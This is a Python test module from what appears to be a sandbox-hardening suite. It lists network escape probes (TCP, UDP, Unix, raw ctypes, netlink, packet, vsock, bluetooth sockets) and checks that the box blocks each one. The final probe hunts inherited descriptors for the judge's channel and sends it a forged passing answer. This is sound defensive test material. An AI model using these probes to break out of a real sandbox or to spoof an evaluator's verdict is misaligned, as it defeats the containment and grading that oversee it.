"""Attacks by network: reach anything with a socket, of any family."""

# ruff: noqa: ARG001 (every attack is told of all decoys)
from collections.abc import Callable

from arena import Arena, Attack, Attacks, Loss, World, call
from arena.checks import check_that_it_fails, check_that_it_works

attacks = Attacks()


def test_hole_is_real(attack: Attack, arena: Callable[[str], Arena]) -> None:
    check_that_it_works(attack, arena)


def test_box_holds(attack: Attack, tier: str, user: str, arena: Callable[[str], Arena]) -> None:
    check_that_it_fails(attack, arena, tier, user)


@attacks.costing(Loss.KNOCK)
def connect_by_tcp(world: World) -> None:
    import socket

    socket.create_connection(tuple(world["tcp"]), timeout=0.3).sendall(b"inputs")


@attacks.costing(Loss.KNOCK)
def connect_by_tcp_of_ipv6(world: World) -> None:
    import socket

    socket.create_connection(tuple(world["tcp6"][:2]), timeout=0.3).sendall(b"inputs")


@attacks.costing(Loss.KNOCK)
def connect_without_blocking(world: World) -> None:
    import socket

    with socket.socket() as sender:
        sender.setblocking(False)
        sender.connect_ex(tuple(world["tcp"]))


@attacks.costing(Loss.KNOCK)
def send_with_tcp_fast_open(world: World) -> None:
    import socket

    with socket.socket() as sender:
        sender.sendto(b"inputs", socket.MSG_FASTOPEN, tuple(world["tcp"]))


@attacks.costing(Loss.KNOCK)
def send_by_udp(world: World) -> None:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"inputs", tuple(world["udp"]))


@attacks.costing(Loss.KNOCK)
def connect_by_a_unix_path(world: World) -> None:
    import socket

    with socket.socket(socket.AF_UNIX) as sender:
        sender.connect(world["unix"])


@attacks.costing(Loss.KNOCK)
def send_to_an_abstract_unix_name(world: World) -> None:
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"inputs", b"\0decoy")


@attacks.costing(Loss.KNOCK)
def fetch_an_address(world: World) -> None:
    from contextlib import suppress
    from urllib.request import urlopen

    with suppress(TimeoutError):
        urlopen("http://{}:{}/".format(*world["tcp"]), timeout=0.3)


@attacks.costing(Loss.KNOCK)
def connect_with_raw_calls(world: World) -> None:
    """Whoever only patched the socket module does not see this."""
    import ctypes
    import struct

    port = struct.pack(">H", world["tcp"][1])
    address = ctypes.create_string_buffer(b"\x02\x00" + port + bytes([127, 0, 0, 1]) + bytes(8), 16)
    call(world, "connect", call(world, "socket", 2, 1, 0), address, 16)


@attacks.costing(Loss.GRANTED)
def listen_for_the_next_one(world: World) -> object:
    import socket

    with socket.create_server(("127.0.0.1", 0)) as server:
        return server.fileno() >= 0


@attacks.costing(Loss.GRANTED)
def open_a_pair_of_sockets(world: World) -> object:
    import socket

    return socket.socketpair()[0].fileno() >= 0


@attacks.costing(Loss.GRANTED)
def open_a_netlink_socket(world: World) -> object:
    import socket

    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as opened:
        return opened.fileno() >= 0


@attacks.costing(Loss.GRANTED, as_root=True)
def open_a_packet_socket(world: World) -> object:
    import socket

    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as opened:
        return opened.fileno() >= 0


@attacks.costing(Loss.GRANTED, as_root=True)
def open_a_raw_socket(world: World) -> object:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as opened:
        return opened.fileno() >= 0


@attacks.costing(Loss.GRANTED)
def open_a_socket_to_the_hypervisor(world: World) -> object:
    import socket

    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as opened:
        return opened.fileno() >= 0


@attacks.costing(Loss.GRANTED)
def open_a_socket_to_kernel_crypto(world: World) -> object:
    import socket

    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as opened:
        opened.bind(("hash", "sha256"))
        return opened.fileno() >= 0


@attacks.costing(Loss.GRANTED)
def open_a_bluetooth_socket(world: World) -> object:
    return call(world, "socket", 31, 3, 1) >= 0


@attacks.costing(Loss.GRANTED)
def pass_a_descriptor(world: World) -> object:
    """Give a descriptor to the judge along with an answer (True) of its own making."""
    import array
    import os
    import socket
    import struct
    from contextlib import suppress

    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
    answer = struct.pack("<II", 1, 7) + struct.pack("<BBI", 3, 0, 0) + bytes([0xC3])
    for descriptor in range(3, 64):
        with suppress(OSError):
            other = socket.socket(fileno=os.dup(descriptor))
            is_channel = (other.family, other.type) == (socket.AF_UNIX, socket.SOCK_STREAM)
            if is_channel and other.sendmsg([answer], rights):
                os._exit(0)
    raise PermissionError("no socket would take it")
